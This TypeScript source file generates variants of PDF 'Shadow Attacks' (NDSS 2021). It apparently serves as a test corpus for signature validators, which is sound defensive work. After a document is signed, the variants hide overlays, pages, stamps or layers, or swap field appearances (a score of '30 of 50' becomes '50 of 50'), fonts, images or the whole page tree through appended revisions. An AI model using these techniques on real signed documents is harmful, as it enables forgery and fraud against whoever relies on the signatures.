import { contentsFor, FALSE_NAME, inClear, linesFor, OBJECTS, original, TRUE_NAME } from './attack-tools.js';
import type { AttackName, AttackTools, AttackVariant } from './attack-tools.js';
import { appearance, pageContents } from './pdf-document.js';
import type { DocumentOptions, Draft } from './pdf-document.js';
import { appendRevision } from './pdf-file.js';
import type { Section } from './pdf-file.js';
import { entriesOf, indexOf, numberOf } from './pdf-signature.js';
import type { SignatureOptions, SignedPdf } from './pdf-signature.js';
import { fillField } from './pdf-updates.js';
import { body, joined, latin1, reference } from './pdf-value.js';
import type { PdfEntries, PdfValue } from './pdf-value.js';

type Activation = Section | ((signed: SignedPdf) => Section | Uint8Array<ArrayBuffer>);

/** Somebody prepares the document, the institution signs what it sees, and an update shows what was hidden. */
function shadow(document: DocumentOptions, activation: Activation, signature: SignatureOptions = {}): AttackVariant['make'] {
  return async (tools: AttackTools) => {
    const signed = await original(document.arrange === doubled ? inClear(tools) : tools, signature, document);
    const section = typeof activation === 'function' ? activation(signed) : activation;
    return section instanceof Uint8Array ? section : appendRevision(signed, { objectStream: true, ...section }).bytes;
  };
}

const set = (...entries: readonly [number, PdfValue][]): Section => ({ set: new Map(entries) });
const of = (name: AttackName, variant: string, make: AttackVariant['make']): AttackVariant => ({ name, variant, make });

/** A white sheet with what the institution shall see, over what it shall not. */
const cover = (name: string): PdfValue => appearance(595, 842, '', `1 g 0 0 595 842 re f 0 g ${new TextDecoder().decode(pageContents('Certificate of Award', linesFor(name)))}`);
const page = (signed: SignedPdf, entries: PdfEntries): [number, PdfValue] => [OBJECTS.page, { ...entriesOf(signed, OBJECTS.page), ...entries }];
const numbered = (signed: SignedPdf, label: string): number => [...signed.objects].find(([, value]) => typeof value === 'object' && value !== null && JSON.stringify(value).includes(`"Label":"/${label}"`))![0];
const labelled = (value: PdfValue, label: string): PdfValue => {
  const stream = value as { entries: PdfEntries; data: Uint8Array };
  return { entries: { ...stream.entries, Label: `/${label}` }, data: stream.data };
};

/** The overlay is a form that the page's contents paint last. */
const overlaid = (draft: Draft): void => {
  const overlay = draft.add(labelled(cover(TRUE_NAME), 'Overlay'));
  const resources = (draft.objects.get(OBJECTS.page) as PdfEntries)['Resources'] as PdfEntries;
  draft.change(OBJECTS.page, { Resources: { ...resources, XObject: { O: reference(overlay) } } });
  draft.objects.set(OBJECTS.contents, contentsFor(FALSE_NAME, '/O Do'));
};
const plainForm = (data: string): PdfValue => ({ entries: { Type: '/XObject', Subtype: '/Form', BBox: [0, 0, 1, 1] }, data: latin1(data) });

/** A page in front of the other, or an annotation, or a layer over it. */
const twoPages = (draft: Draft): void => {
  const contents = draft.add(contentsFor(TRUE_NAME));
  const first = draft.add({ ...(draft.objects.get(OBJECTS.page) as PdfEntries), Contents: reference(contents) });
  draft.objects.set(OBJECTS.contents, contentsFor(FALSE_NAME));
  draft.change(OBJECTS.pages, { Kids: [reference(first), reference(OBJECTS.page)], Count: 2 });
};
const stamped = (draft: Draft): void => {
  const shown = draft.add(cover(TRUE_NAME));
  const stamp = draft.add({ Type: '/Annot', Subtype: '/Stamp', Rect: [0, 0, 595, 842], F: 4, AP: { N: reference(shown) } });
  draft.objects.set(OBJECTS.contents, contentsFor(FALSE_NAME));
  draft.change(OBJECTS.page, { Annots: [reference(stamp)] });
};
const layers = { layers: [{ name: 'Sheet', on: true, line: TRUE_NAME }, { name: 'Other', on: false, line: FALSE_NAME }] };

const hides: readonly AttackVariant[] = [
  of('shadow-hide', 'overlay-freed', shadow({ arrange: overlaid }, (signed) => ({ free: [numbered(signed, 'Overlay')] }))),
  of('shadow-hide', 'overlay-freed-xref-stream', shadow({ arrange: overlaid, xref: 'stream' }, (signed) => ({ free: [numbered(signed, 'Overlay')], form: 'stream' }))),
  of('shadow-hide', 'overlay-emptied', shadow({ arrange: overlaid }, (signed) => set([numbered(signed, 'Overlay'), plainForm('')]))),
  of('shadow-hide', 'overlay-of-another-type', shadow({ arrange: overlaid }, (signed) => set([numbered(signed, 'Overlay'), { Type: '/Metadata', Subtype: '/XML' }]))),
  of('shadow-hide', 'overlay-out-of-resources', shadow({ arrange: overlaid }, (signed) => set(page(signed, { Resources: { Font: { F1: reference(OBJECTS.font), F2: reference(OBJECTS.bold) } } })))),
  of('shadow-hide', 'page-out-of-tree', shadow({ arrange: twoPages }, set([OBJECTS.pages, { Type: '/Pages', Kids: [reference(OBJECTS.page)], Count: 1 }]))),
  of('shadow-hide', 'stamp-out-of-annots', shadow({ arrange: stamped }, (signed) => set(page(signed, { Annots: [reference(signed.signature.field)] })))),
  of('shadow-hide', 'layer-switched-off', shadow(layers, (signed) => {
    const catalog = entriesOf(signed, OBJECTS.catalog);
    const properties = catalog['OCProperties'] as PdfEntries;
    const groups = properties['OCGs'] as readonly PdfValue[];
    return set([OBJECTS.catalog, { ...catalog, OCProperties: { ...properties, D: { ON: [groups[1]!], OFF: [groups[0]!], Order: groups } } }]);
  })),
];

/** Glyphs that show other signs than those that are written. */
const otherGlyphs: PdfEntries = { Type: '/Font', Subtype: '/Type1', BaseFont: '/Helvetica', Encoding: { Type: '/Encoding', BaseEncoding: '/WinAnsiEncoding', Differences: [51, '/five', 53, '/three'] } };
const withFontFile = (draft: Draft): void => {
  const file = draft.add({ entries: { Label: '/FontFile', Subtype: '/OpenType' }, data: latin1('font') });
  const descriptor = draft.add({ Type: '/FontDescriptor', FontName: '/Demo', Flags: 32, FontBBox: [0, 0, 1000, 1000], ItalicAngle: 0, Ascent: 700, Descent: 0, CapHeight: 700, StemV: 80, FontFile3: reference(file) });
  draft.objects.set(OBJECTS.font, { Type: '/Font', Subtype: '/Type1', BaseFont: '/Demo', FirstChar: 32, LastChar: 33, Widths: [500, 500], FontDescriptor: reference(descriptor) });
};
const withImage = (draft: Draft): void => {
  const image = draft.add({ entries: { Type: '/XObject', Subtype: '/Image', Width: 1, Height: 1, ColorSpace: '/DeviceGray', BitsPerComponent: 8, Label: '/Image' }, data: Uint8Array.of(0) });
  const resources = (draft.objects.get(OBJECTS.page) as PdfEntries)['Resources'] as PdfEntries;
  draft.change(OBJECTS.page, { Resources: { ...resources, XObject: { I: reference(image) } } });
  draft.objects.set(OBJECTS.contents, contentsFor(TRUE_NAME, 'q 100 0 0 100 72 400 cm /I Do Q'));
};
const points: DocumentOptions = { fields: [{ name: 'points', value: '30 of 50' }] };
const appearanceOf = (signed: SignedPdf): number => numberOf((entriesOf(signed, fieldOf(signed))['AP'] as PdfEntries)['N'])!;
const fieldOf = (signed: SignedPdf): number => [...signed.objects].find(([, value]) => JSON.stringify(value).includes('"FT":"/Tx"'))![0];

const replaces: readonly AttackVariant[] = [
  of('shadow-replace', 'field-shows-another-value', shadow(points, (signed) => set([appearanceOf(signed), appearance(228, 20, '50 of 50')]))),
  of('shadow-replace', 'field-has-another-appearance', shadow(points, (signed) => set([signed.size, appearance(228, 20, '50 of 50')], [fieldOf(signed), { ...entriesOf(signed, fieldOf(signed)), AP: { N: reference(signed.size) } }]))),
  of('shadow-replace', 'field-value-overwritten', shadow(points, (signed) => fillField(signed, 'points', '50 of 50').bytes)),
  of('shadow-replace', 'font-encoding', shadow({}, set([OBJECTS.font, otherGlyphs]))),
  of('shadow-replace', 'font-file', shadow({ arrange: withFontFile }, (signed) => set([numbered(signed, 'FontFile'), { entries: { Subtype: '/OpenType' }, data: latin1('evil') }]))),
  of('shadow-replace', 'font-of-form', shadow(points, (signed) => {
    const form = numberOf(entriesOf(signed, OBJECTS.catalog)['AcroForm'])!;
    return set([signed.size, otherGlyphs], [form, { ...entriesOf(signed, form), DR: { Font: { F1: reference(signed.size) } } }]);
  })),
  of('shadow-replace', 'image', shadow({ arrange: withImage }, (signed) => set([numbered(signed, 'Image'), { entries: { Type: '/XObject', Subtype: '/Image', Width: 1, Height: 1, ColorSpace: '/DeviceGray', BitsPerComponent: 8 }, data: Uint8Array.of(255) }]))),
];

/** A second document in the first, which nothing of the first names. */
const hidden = { catalog: 100, pages: 101, page: 102, contents: 103 } as const;
const secondTree = (draft: Draft): void => {
  const catalog = draft.objects.get(OBJECTS.catalog) as PdfEntries;
  draft.objects.set(hidden.catalog, { ...catalog, Pages: reference(hidden.pages) });
  draft.objects.set(hidden.pages, { Type: '/Pages', Kids: [reference(hidden.page)], Count: 1 });
  draft.objects.set(hidden.page, { ...(draft.objects.get(OBJECTS.page) as PdfEntries), Parent: reference(hidden.pages), Contents: reference(hidden.contents) });
  draft.objects.set(hidden.contents, contentsFor(FALSE_NAME));
};
/** Object 7 a second time, within a stream that nobody reads: the signed cross-reference section does not list it. */
const doubled = (draft: Draft): void => {
  draft.add({ entries: { Label: '/Box' }, data: joined([`${OBJECTS.contents} 0 obj\n`, body(contentsFor(FALSE_NAME)), '\nendobj\n']) });
};
const offsetOfDouble = (signed: SignedPdf) => indexOf(signed.bytes, `${OBJECTS.contents} 0 obj`, signed.offsets.get(numbered(signed, 'Box'))! + 1);
const otherCatalog = (signed: SignedPdf): PdfEntries => ({ ...entriesOf(signed, OBJECTS.catalog), Pages: reference(hidden.pages) });

const hideAndReplaces: readonly AttackVariant[] = [
  of('shadow-hide-and-replace', 'root-of-second-tree', shadow({ arrange: secondTree }, { trailer: { Root: reference(hidden.catalog) } })),
  of('shadow-hide-and-replace', 'root-of-second-tree-with-form', shadow({ arrange: secondTree }, (signed) => ({ ...set([hidden.catalog, otherCatalog(signed)]), trailer: { Root: reference(hidden.catalog) } }))),
  of('shadow-hide-and-replace', 'pages-of-second-tree', shadow({ arrange: secondTree }, (signed) => set([OBJECTS.catalog, otherCatalog(signed)]))),
  of('shadow-hide-and-replace', 'kids-of-second-tree', shadow({ arrange: secondTree }, set([OBJECTS.pages, { Type: '/Pages', Kids: [reference(hidden.page)], Count: 1 }]))),
  of('shadow-hide-and-replace', 'contents-of-second-tree', shadow({ arrange: secondTree }, (signed) => set(page(signed, { Contents: reference(hidden.contents) })))),
  of('shadow-hide-and-replace', 'xref-to-second-object', shadow({ arrange: doubled }, (signed) => ({ listed: new Map([[OBJECTS.contents, offsetOfDouble(signed)]]) }))),
  of('shadow-hide-and-replace', 'xref-stream-to-second-object', shadow({ arrange: doubled, xref: 'stream', objectStreams: false }, (signed) => ({ listed: new Map([[OBJECTS.contents, offsetOfDouble(signed)]]), form: 'stream' }))),
  of('shadow-hide-and-replace', 'root-certified', shadow({ arrange: secondTree }, { trailer: { Root: reference(hidden.catalog) } }, { docMdp: 1 })),
];

/** "Shadow Attacks" (NDSS 2021). */
export const shadows: readonly AttackVariant[] = [...hides, ...replaces, ...hideAndReplaces];
